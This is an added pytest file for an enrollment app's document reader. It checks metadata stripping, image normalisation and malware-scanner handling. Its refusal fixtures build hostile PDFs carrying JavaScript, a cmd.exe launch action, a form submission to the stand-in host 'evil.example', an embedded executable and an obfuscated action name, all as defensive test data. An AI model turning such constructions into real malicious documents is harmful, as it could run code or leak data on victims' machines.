@@ -1,0 +1,167 @@
+"""Strangers' files, read in a process of their own: what is kept, what is refused and why."""
+
+import io
+import os
+import socket
+import threading
+from pathlib import Path
+
+import pytest
+from PIL import Image
+from pytest_django import Settings
+
+from enrollment.core.files import Unfit
+from enrollment.documents import reading
+from enrollment.documents.reading import read_file
+from tests.fakes.files import hiding, moving, pdf, photograph, picture, running
+
+JAVASCRIPT = {"/S": "/JavaScript", "/JS": "app.alert(1)"}
+
+
+def opened(body: bytes) -> Image.Image:
+    return Image.open(io.BytesIO(body))
+
+
+@pytest.mark.asvs("14.2.8")
+def test_a_photograph_is_kept_the_right_way_up_without_what_the_camera_wrote() -> None:
+    taken = photograph()
+    assert opened(taken).getexif()
+    kept = read_file(taken)
+    assert kept.content_type == "image/jpeg"
+    assert opened(kept.body).size == (400, 640)
+    assert not opened(kept.body).getexif()
+    for told in (b"Fictional phone", b"Alder Street", b"Exif"):
+        assert told not in kept.body
+        assert told not in kept.pictures[0]
+
+
+def test_what_stands_behind_a_picture_is_dropped() -> None:
+    """A phone's second view or short clip; nobody would see it, and it says where one was."""
+    kept = read_file(picture() + b"\0\0\0\x18ftypmp42 clip of a street")
+    assert b"street" not in kept.body
+
+
+@pytest.mark.parametrize("mode", ["RGBA", "LA", "P", "1", "L", "I;16"])
+def test_a_png_of_any_kind_is_seen_on_white(mode: str) -> None:
+    kept = read_file(picture("PNG", mode=mode, color=None))
+    assert kept.content_type == "image/png"
+    assert opened(kept.body).mode in ("RGB", "L")
+    assert opened(kept.pictures[0]).format == "JPEG"
+
+
+def test_a_large_picture_is_shown_smaller() -> None:
+    kept = read_file(picture(size=(4000, 3000)))
+    assert opened(kept.body).size == (4000, 3000)
+    assert opened(kept.pictures[0]).size == (1600, 1200)
+
+
+def test_a_pdf_is_kept_as_it_came_with_a_picture_of_each_page() -> None:
+    body = pdf(3)
+    kept = read_file(body)
+    assert (kept.content_type, kept.body, kept.pages) == ("application/pdf", body, 3)
+    assert {opened(each).format for each in kept.pictures} == {"JPEG"}
+
+
+REFUSED = {
+    "moving": (moving(), "This picture moves; attach a still one."),
+    "cut off": (picture(size=(300, 300))[:-40], "This picture is damaged or ends too early"),
+    "garbled": (b"\xff\xd8\xff" + os.urandom(200), "This picture is damaged or ends too early"),
+    "500 pages": (pdf(500), "This PDF has 500 pages; the most is 50."),
+    "no page": (pdf(0), "This PDF"),
+    "locked": (pdf(1, lambda w: w.encrypt("secret")), "This PDF is locked with a password"),
+    "script": (pdf(1, running(JAVASCRIPT)), "This PDF holds a script"),
+    "program": (pdf(1, running({"/S": "/Launch", "/F": "cmd.exe"})), "This PDF holds a script"),
+    "sender": (
+        pdf(1, running({"/S": "/SubmitForm", "/F": "https://evil.example"})),
+        "This PDF holds a script",
+    ),
+    "another file": (pdf(1, lambda w: w.add_attachment("a.exe", b"MZ")), "This PDF holds a script"),
+    "in hex": (
+        pdf(1, running(JAVASCRIPT)).replace(b"/JavaScript", b"/JavaScr#69pt"),
+        "This PDF holds a script",
+    ),
+    "hidden": (pdf(1, hiding({"/S": "/URI", "/JS": "x"})), "This PDF holds a script"),
+    "noise": (b"%PDF-1.7\n" + b"\x93\x01" * 900 + b"\n%%EOF", "This PDF is damaged"),
+}
+
+
+@pytest.mark.asvs("5.2.1", "5.2.6")
+@pytest.mark.parametrize("name", REFUSED)
+def test_what_is_refused_says_why_in_one_sentence(name: str) -> None:
+    body, sentence = REFUSED[name]
+    with pytest.raises(Unfit) as unfit:
+        read_file(body)
+    assert str(unfit.value).startswith(sentence)
+
+
+def test_a_web_link_in_a_pdf_is_nothing_to_refuse() -> None:
+    assert read_file(pdf(1, running({"/S": "/URI", "/URI": "https://lakeside.example"}))).pages == 1
+
+
+def test_a_file_that_takes_too_long_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(reading, "SECONDS", 0.01)
+    with pytest.raises(Unfit, match="takes too much to read"):
+        read_file(picture())
+
+
+def test_a_decoder_that_dies_takes_nothing_with_it(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(reading, "CHILD", "enrollment.documents.nowhere")
+    with pytest.raises(Unfit, match="takes too much to read"):
+        read_file(picture())
+
+
+class Clamd:
+    """A scanner on a socket that answers one thing, whatever it is sent."""
+
+    def __init__(self, path: Path, answer: bytes) -> None:
+        self.answer, self.sent = answer, b""
+        self.listening = socket.socket(socket.AF_UNIX)
+        self.listening.bind(str(path))
+        self.listening.listen()
+        self.thread = threading.Thread(target=self.serve, daemon=True)
+        self.thread.start()
+
+    def serve(self) -> None:
+        wire, _ = self.listening.accept()
+        with wire:
+            while not self.sent.endswith(bytes(4)):
+                self.sent += wire.recv(65_536)
+            wire.sendall(self.answer)
+
+
+@pytest.fixture
+def path(tmp_path: Path, settings: Settings) -> Path:
+    path = tmp_path / "clamd"
+    settings.MALWARE_SCANNER = f"unix://{path}"
+    return path
+
+
+@pytest.mark.asvs("5.4.3")
+def test_the_scanner_sees_every_byte_before_anything_is_kept(path: Path) -> None:
+    clamd, body = Clamd(path, b"stream: OK\0"), picture()
+    assert read_file(body).pages == 1
+    clamd.listening.close()
+    assert clamd.sent.startswith(b"zINSTREAM\0" + len(body).to_bytes(4, "big") + body[:100])
+
+
+@pytest.mark.asvs("5.4.3")
+def test_what_the_scanner_knows_is_refused(path: Path) -> None:
+    clamd = Clamd(path, b"stream: Eicar-Test-Signature FOUND\0")
+    with pytest.raises(Unfit, match="The malware scanner refused this file"):
+        read_file(picture())
+    clamd.listening.close()
+
+
+@pytest.mark.asvs("16.5.3")
+@pytest.mark.parametrize("answer", [b"", b"INSTREAM size limit exceeded. ERROR\0", b"stream: "])
+def test_a_scanner_that_does_not_say_yes_says_no(path: Path, answer: bytes) -> None:
+    clamd = Clamd(path, answer)
+    with pytest.raises(Unfit, match="The malware scanner does not answer, so nothing was kept"):
+        read_file(picture())
+    clamd.listening.close()
+
+
+@pytest.mark.asvs("16.5.3")
+def test_a_scanner_that_is_not_there_says_no(path: Path) -> None:
+    with pytest.raises(Unfit, match="The malware scanner does not answer, so nothing was kept"):
+        read_file(picture())
